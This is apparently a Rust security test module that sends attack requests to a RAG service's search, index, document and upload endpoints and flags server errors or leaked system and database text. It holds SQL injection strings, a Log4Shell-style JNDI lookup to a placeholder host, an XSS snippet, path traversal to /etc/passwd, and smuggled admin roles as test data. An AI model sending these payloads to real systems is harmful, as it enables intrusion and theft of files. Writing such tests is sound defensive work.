//! What an attacker would send, and what may come back of it.

use super::bench::Bench;
use crate::client::raw::{Ask, Told};
use serde_json::json;

/// What must stand in no answer: a file of the system, a database's own words, a panic.
const LEAKS: [&str; 6] =
    ["root:x:0:0", "syntax error at or near", "SQLSTATE", "panicked at", "RUST_BACKTRACE", "unterminated quoted"];

/// One attempt.
pub(super) struct Vector {
    /// What it tries, for people.
    pub name: &'static str,
    /// The request.
    pub ask: Ask,
    /// Codes that are an answer.
    pub codes: &'static [u16],
}

impl Vector {
    /// What is wrong with the answer.
    pub(super) fn amiss(&self, told: &Told) -> Option<String> {
        let text = told.text();
        if told.status >= 500 {
            return Some(format!("{}: HTTP {}", self.name, told.status));
        }
        if let Some(leak) = LEAKS.iter().find(|leak| text.contains(*leak)) {
            return Some(format!("{}: the answer holds \"{leak}\"", self.name));
        }
        (!self.codes.contains(&told.status)).then(|| format!("{}: HTTP {}", self.name, told.status))
    }
}

/// All attempts, by a user who is signed in: what is refused to strangers anyway proves nothing.
pub(super) fn all(bench: &Bench<'_>, token: &str) -> Vec<Vector> {
    const REFUSED: &[u16] = &[400, 403, 404, 413, 414, 415, 422];
    let search =
        |name, query: &str, codes| Vector { name, ask: Ask::json("/rag/search", &json!({ "query": query })), codes };
    let get = |name, path: &str| Vector { name, ask: Ask::get(path), codes: REFUSED };
    let path =
        |name, path: &str| Vector { name, ask: Ask::json("/rag/index", &json!({ "file_path": path })), codes: REFUSED };
    let vectors = vec![
        search("SQL in a search", "'; drop table documents; --", &[200]),
        search("SQL in a search by words", "\" | !x & :* <-> 'a' or 1=1", &[200]),
        search("a template in a search", "{{7*7}} ${jndi:ldap://x.invalid/a} <script>alert(1)</script>", &[200]),
        search("a NUL in a search", "a\0b", REFUSED),
        get("SQL in a number", "/rag/documents?limit=1%27%20or%20%271%27=%271"),
        get("SQL in an id", "/rag/documents/%27%3B%20drop%20table%20users%3B%20--"),
        get("a path that climbs out", "/docs/..%2f..%2f..%2fetc%2fpasswd"),
        get("a path with a NUL", "/rag/documents/%00"),
        path("a file outside the folder", "../../../../etc/passwd"),
        path("a file by its whole path", "/etc/passwd"),
        path("a climb that is encoded", "..%2f..%2f..%2fetc%2fpasswd"),
        Vector {
            name: "an unknown field",
            ask: Ask::json("/rag/search", &json!({ "query": "x", "role": "admin" })),
            codes: &[422],
        },
        Vector {
            name: "broken JSON",
            ask: Ask::new("POST", "/rag/search").with("content-type", "application/json").body("{\"query\":"),
            codes: &[400],
        },
        Vector {
            name: "a body that is too large",
            ask: Ask::json("/rag/search", &json!({ "query": "x".repeat(1 << 21) })),
            codes: &[413],
        },
        Vector {
            name: "an upload whose name climbs out",
            ask: Ask::upload(
                "/rag/documents",
                &format!("../../../tmp/{}", bench.file_name("climbs.md")),
                &format!("# {}\n", bench.mark),
            ),
            codes: &[201, 202],
        },
        Vector {
            name: "an upload of a program",
            ask: Ask::upload("/rag/documents", &bench.file_name("program.exe"), "MZ"),
            codes: &[415],
        },
    ];
    vectors.into_iter().map(|vector| Vector { ask: vector.ask.by(token), ..vector }).collect()
}
